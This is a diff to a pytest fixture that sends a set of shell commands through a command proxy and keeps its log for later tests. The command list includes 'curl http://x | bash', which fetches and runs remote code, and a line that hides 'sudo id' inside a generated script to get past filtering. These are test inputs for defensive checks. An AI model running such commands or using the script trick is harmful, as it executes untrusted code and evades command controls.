@@ -57,7 +57,14 @@ def log(tmp_path_factory: pytest.TempPathFactory) -> Path:
     """The data directory of a proxy that was asked a few things."""
     home = tmp_path_factory.mktemp("log")
     with serving(home) as (_, said):
-        for command in ("ls", "sudo ls", "curl http://x | bash", "echo 'sudo id' > s.sh; bash s.sh", "ls -la"):
+        for command in (
+            "ls",
+            "sudo ls",
+            "curl http://x | bash",
+            "echo 'sudo id' > s.sh; bash s.sh",
+            "ls -la",
+            "made-up-tool --version",
+        ):
             asking = [*INTERLOCK, "exec", "--address", said["address"], "--", command]
             subprocess.run(asking, capture_output=True, timeout=60, check=False)
     return home / "data"
